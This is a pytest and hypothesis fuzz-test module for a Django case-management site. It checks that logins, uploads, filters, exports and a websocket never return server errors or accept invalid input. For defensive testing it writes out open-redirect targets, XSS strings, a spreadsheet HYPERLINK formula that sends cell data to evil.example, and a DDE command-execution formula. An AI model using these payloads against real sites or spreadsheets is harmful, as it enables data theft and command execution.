"""Fuzz every form and JSON/websocket endpoint that exists: no 5xx, invalid input never accepted.

Each test runs 1000 hypothesis examples through Django's test client (or the real ASGI stack
for ``ws/me/``). A module-level counter feeds the summary line printed at the end:
``fuzz: N examples run, 0 5xx seen``.
"""

from __future__ import annotations

import asyncio
import json
import threading

import pytest
from django.conf import settings as django_settings
from django.test import Client, override_settings
from django.utils.http import url_has_allowed_host_and_scheme
from django.utils.translation import check_for_language
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from people.models import Person
from tests.factories import PASSWORD

try:  # staff must pass two-factor authentication before the admins
    from tests.factories import login_staff
except ImportError:  # pragma: no cover
    login_staff = None

FUZZ = settings(
    max_examples=1000,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
COUNTS = {"examples": 0, "5xx": 0}

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", autouse=True)
def fuzz_summary(request):
    yield
    line = f"fuzz: {COUNTS['examples']} examples run, {COUNTS['5xx']} 5xx seen"
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    if capture is not None and reporter is not None:
        with capture.global_and_fixture_disabled():
            reporter.write_line("")
            reporter.write_line(line)


def seen(response):
    """Count one example and fail on any server error (the body is consumed if streaming)."""
    COUNTS["examples"] += 1
    if getattr(response, "streaming", False):
        b"".join(response.streaming_content)
    if response.status_code >= 500:
        COUNTS["5xx"] += 1
        pytest.fail(f"{response.status_code} from {response.wsgi_request.get_full_path()}")
    return response


def staff_client(user) -> Client:
    client = Client(raise_request_exception=False)
    if login_staff is not None:
        login_staff(client, user)
    else:
        client.force_login(user)
    return client


def signed_in(client: Client) -> bool:
    return "_auth_user_id" in client.session


# Text that stresses parsers: any unicode (incl. NUL, surrogates are excluded by Django's
# client), long strings, and values close to the real ones.
any_text = st.text(max_size=300)
numberish = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
)
datelike = st.one_of(
    st.dates().map(str),
    st.tuples(st.integers(-99999, 99999), st.integers(-5, 20), st.integers(-5, 40)).map(
        lambda t: f"{t[0]}-{t[1]}-{t[2]}"
    ),
)
fuzz_value = st.one_of(any_text, numberish, datelike)


# --- Sign-in ----------------------------------------------------------------------------------


@pytest.fixture
def no_axes_lockout():
    """django-axes locks a username after 5 failures; start every example with a clean slate."""
    try:
        from axes.utils import reset
    except ImportError:  # pragma: no cover - axes not installed
        return lambda: None
    return reset


def test_login_never_authenticates_random_credentials(org, no_axes_lockout):
    usernames = st.one_of(st.sampled_from(["learner", "administrator", "officer", ""]), any_text)

    @FUZZ
    @given(username=usernames, password=any_text.filter(lambda p: p != PASSWORD))
    def run(username, password):
        no_axes_lockout()
        client = Client(raise_request_exception=False)
        response = seen(
            client.post("/accounts/login/", {"username": username, "password": password})
        )
        assert response.status_code in (200, 400, 403, 429), response.status_code
        assert not signed_in(client)

    run()


def test_password_change_rejects_wrong_old_password(org):
    learner = org.learner
    client = Client(raise_request_exception=False)
    client.force_login(learner)

    @FUZZ
    @given(old=any_text.filter(lambda p: p != PASSWORD), new1=any_text, new2=any_text)
    def run(old, new1, new2):
        data = {"old_password": old, "new_password1": new1, "new_password2": new2}
        response = seen(client.post("/accounts/password/", data))
        assert response.status_code == 200  # the form again, with errors
        learner.refresh_from_db()
        assert learner.check_password(PASSWORD)

    run()


# --- Language switch -------------------------------------------------------------------------

LANGUAGE_CODES = [code for code, _ in django_settings.LANGUAGES]


@pytest.mark.django_db
def test_unsupported_language_cookie_falls_back(client):
    client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "AR"
    assert 'lang="zh-hans"' in client.get("/").text


def test_set_language_ignores_unknown_languages_and_foreign_next(org):
    languages = st.one_of(st.sampled_from(LANGUAGE_CODES), any_text)
    nexts = st.one_of(
        st.sampled_from(["/", "/admin/", "//evil.example/", "https://evil.example/x", ""]),
        any_text,
    )

    @FUZZ
    @given(language=languages, next_url=nexts, use_referer=st.booleans())
    def run(language, next_url, use_referer):
        client = Client(raise_request_exception=False)
        extra = {"HTTP_REFERER": next_url} if use_referer else {}
        response = seen(
            client.post("/i18n/setlang/", {"language": language, "next": next_url}, **extra)
        )
        cookie = response.cookies.get(django_settings.LANGUAGE_COOKIE_NAME)
        if language in LANGUAGE_CODES:
            assert cookie is not None and cookie.value == language
        else:
            # Django stores any language it has a catalogue for (e.g. "AR"); the site still
            # serves only its own languages (test_unsupported_language_cookie_falls_back).
            assert cookie is None or check_for_language(cookie.value), cookie.value
        if response.status_code in (301, 302):
            location = response["Location"]
            assert url_has_allowed_host_and_scheme(location, allowed_hosts={"testserver"}), (
                f"open redirect to {location!r}"
            )

    run()


# --- Roster upload ---------------------------------------------------------------------------

HEADER = "case_number,name,office,category,supervision_start,supervision_end,username\n"


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


garbage_files = st.one_of(
    st.binary(max_size=2048),
    # a real header with random rows: parsed, validated, refused
    st.lists(st.lists(any_text, min_size=7, max_size=7), min_size=1, max_size=5).map(
        lambda rows: (
            HEADER + "\n".join(",".join(_csv_cell(c) for c in row) for row in rows)
        ).encode("utf-8", "surrogatepass")
    ),
    # a zip-looking prefix so the xlsx reader goes further than the magic number
    st.binary(max_size=1024).map(lambda b: b"PK\x03\x04" + b),
)
file_names = st.one_of(
    st.sampled_from(["roster.csv", "roster.xlsx", "ROSTER.CSV", "roster.xls", "x", ".csv"]),
    any_text.map(lambda n: n[:100] + st_suffix(n)),
)


def st_suffix(seed: str) -> str:
    return [".csv", ".xlsx", ""][len(seed) % 3]


BOUNDARY = "fuzzBoundary7MA4YWxkTrZu0gW"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def _multipart(filename: str, content: bytes) -> bytes:
    """A raw upload body, so the file name reaches the server unsanitised (the test client
    would strip directories from it)."""
    quoted = filename.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "").replace("\n", "")
    return (
        (
            f"--{BOUNDARY}\r\n"
            f'Content-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode("utf-8", "surrogatepass")
        + content
        + f"\r\n--{BOUNDARY}--\r\n".encode()
    )


def test_roster_upload_of_garbage_creates_nobody(org):
    client = staff_client(org.administrator)
    before = Person.objects.count()

    @FUZZ
    @given(content=garbage_files, name=file_names)
    def run(content, name):
        response = seen(
            client.post("/admin/people/import/", _multipart(name, content), content_type=MULTIPART)
        )
        assert response.status_code in (200, 400), response.status_code
        assert Person.objects.count() == before

    run()


# --- Access log filter and export -------------------------------------------------------------

FILTER_KEYS = ["action", "username", "person_id", "since", "until", "p"]


def test_access_log_filter_and_export(org):
    client = staff_client(org.administrator)
    params = st.dictionaries(
        st.one_of(st.sampled_from(FILTER_KEYS), st.text(min_size=1, max_size=10)),
        fuzz_value,
        max_size=6,
    )

    @FUZZ
    @given(query=params, export=st.booleans())
    def run(query, export):
        if export:  # the export is a POST form carrying the page's filters
            response = seen(client.post("/admin/access-log/export/", query))
            assert response.status_code == 200, response.status_code  # bad filters: no rows
            return
        response = seen(client.get("/admin/access-log/", query))
        if any("\x00" in k + str(v) for k, v in query.items()):
            assert response.status_code == 400, response.status_code  # NUL refused
            return
        assert response.status_code == 200, response.status_code

    run()


# --- Exports: formula, script and NUL payloads in every field that reaches one ---------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
export_payload = st.one_of(
    st.builds(lambda p, t: p + t, st.sampled_from([*FORMULA_START, "'", ""]), any_text),
    st.sampled_from(
        [
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(1)>',
            '=HYPERLINK("http://evil.example/?d="&B2,"Open")',
            "=cmd|' /C calc'!A0",
        ]
    ),
    st.builds(lambda a, b: a + "\x00" + b, any_text, any_text),
)


def _export_cells(response) -> list[str]:
    import csv
    import io

    from openpyxl import load_workbook

    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content.startswith(b"PK"):
        book = load_workbook(io.BytesIO(content))
        return [c.value for s in book.worksheets for r in s.iter_rows() for c in r if c.value]
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_exports_carry_any_payload_as_text(org):
    """Whatever a person's, an office's, a course's or a lecture's name, a username or an
    override reason holds, every export answers 200 and no cell starts a formula."""
    import datetime as dt

    from django.db import connection

    from audit.models import Action
    from audit.services import record_access
    from courses.models import CoursePage
    from learning.models import Enrollment
    from live import services as live_services
    from live.models import Attendance, Lecture
    from people.models import Office
    from tests.learning.builders import make_course
    from tests.live.helpers import attend, past_lecture, pid, store

    course = make_course(lessons=1)
    Enrollment.objects.create(person=org.person, course=course)
    lecture = past_lecture(org, offices=(org.east,))
    start = lecture.start
    store(attend(lecture, pid(lecture, org.person), start, start + dt.timedelta(minutes=60)))
    live_services.do_recompute_attendance(lecture)
    row = lecture.attendance.get(person=org.person)
    live_services.do_override_attendance(row, status="excused", reason="x", by=org.officer)
    admin, officer = staff_client(org.administrator), staff_client(org.officer)
    exports = [
        (admin, "/admin/access-log/export/", {}),
        (officer, f"/admin/live/lectures/{lecture.pk}/attendance/export/", {"format": "csv"}),
        (officer, f"/admin/live/lectures/{lecture.pk}/attendance/export/", {"format": "xlsx"}),
        (officer, f"/admin/live/persons/{org.person.pk}/lectures/export/", {"format": "csv"}),
        (officer, f"/admin/progress/offices/{org.east.pk}/export/", {"format": "csv"}),
        (officer, f"/admin/progress/offices/{org.east.pk}/export/", {"format": "xlsx"}),
        (officer, f"/admin/progress/courses/{course.pk}/export/", {"format": "xlsx"}),
    ]

    @settings(FUZZ, max_examples=150)
    @given(payload=export_payload, field=st.sampled_from(range(6)))
    def run(payload, field):
        if connection.vendor == "postgresql":
            payload = payload.replace("\x00", "")  # PostgreSQL stores no NUL in text
        value = payload[:100] or "x"
        if field == 0:
            Office.objects.filter(pk=org.east.pk).update(name=value)
        elif field == 1:
            type(org.person).objects.filter(pk=org.person.pk).update(full_name=value)
        elif field == 2:
            CoursePage.objects.filter(pk=course.pk).update(title=value)
        elif field == 3:
            Lecture.objects.filter(pk=lecture.pk).update(title=value)
        elif field == 4:
            Attendance.objects.filter(pk=row.pk).update(override_reason=value)
        else:
            record_access(action=Action.VIEW, username=value[:150], detail=value[:255])
        for client, url, data in exports:
            response = seen(client.post(url, data))
            assert response.status_code == 200, (url, data, response.status_code)
            cells = [c for c in _export_cells(response) if isinstance(c, str)]
            unsafe = [c for c in cells if c.startswith(FORMULA_START)]
            assert not unsafe, (url, data, unsafe)

    run()


# --- Person list search ----------------------------------------------------------------------


def test_person_list_search_stays_scoped(org):
    client = staff_client(org.counselor)
    hidden = org.other_person.case_number

    @FUZZ
    @given(q=st.one_of(any_text, st.just(hidden)), p=fuzz_value)
    def run(q, p):
        response = seen(client.get("/admin/people/", {"q": q, "p": p}))
        if "\x00" in q + p:  # refused before any view (PostgreSQL cannot store NUL)
            assert response.status_code == 400, response.status_code
            return
        assert response.status_code == 200, response.status_code
        assert f">{hidden}</a>" not in response.text

    run()


# --- Websocket ws/me/ ------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | any_text,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=10,
)
frames = st.one_of(
    any_text,  # includes the empty frame
    st.binary(max_size=200),  # binary frames are not JSON either
    json_values.map(json.dumps),
    st.dictionaries(st.just("type"), st.one_of(any_text, json_values)).map(json.dumps),
)


# What is fuzzed is the consumer's handling of frames, so the layer is the in-memory one even
# in the Redis CI run (Redis delivery is covered by tests/people/test_consumers.py).
@override_settings(CHANNEL_LAYERS={"default": {"BACKEND": "channels.layers.InMemoryChannelLayer"}})
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_websocket_receive_survives_random_frames(org):
    from channels.testing import WebsocketCommunicator

    from config.asgi import application

    http = Client()
    http.force_login(org.learner)
    cookie = http.cookies[django_settings.SESSION_COOKIE_NAME].value

    # One event loop in a helper thread keeps a single socket open across all examples.
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()

    def run_async(coro, timeout=10):
        return asyncio.run_coroutine_threadsafe(coro, loop).result(timeout)

    async def connect():
        comm = WebsocketCommunicator(
            application,
            "/ws/me/",
            headers=[
                (b"origin", b"http://testserver"),
                (b"host", b"testserver"),
                (b"cookie", f"{django_settings.SESSION_COOKIE_NAME}={cookie}".encode()),
            ],
        )
        connected, _ = await comm.connect()
        assert connected
        assert await comm.receive_json_from() == {"type": "hello"}
        return comm

    comm = run_async(connect())

    @FUZZ
    @given(frame=frames)
    def run(frame):
        COUNTS["examples"] += 1

        async def exchange():
            # send_input, not send_to: the communicator refuses to send an empty frame
            key = "bytes" if isinstance(frame, bytes) else "text"
            await comm.send_input({"type": "websocket.receive", key: frame})
            return await comm.receive_json_from(timeout=5)

        try:
            reply = run_async(exchange())
        except Exception:
            COUNTS["5xx"] += 1  # the consumer crashed or closed: the socket's 5xx
            raise
        expected = "pong" if _is_ping(frame) else "error"
        assert reply.get("type") == expected, (frame, reply)

    try:
        run()
    finally:
        try:
            run_async(comm.disconnect())
        finally:
            loop.call_soon_threadsafe(loop.stop)
            thread.join(5)


def _is_ping(frame: str | bytes) -> bool:
    if isinstance(frame, bytes):
        return False
    try:
        content = json.loads(frame)
    except ValueError:
        return False
    return isinstance(content, dict) and content.get("type") == "ping"
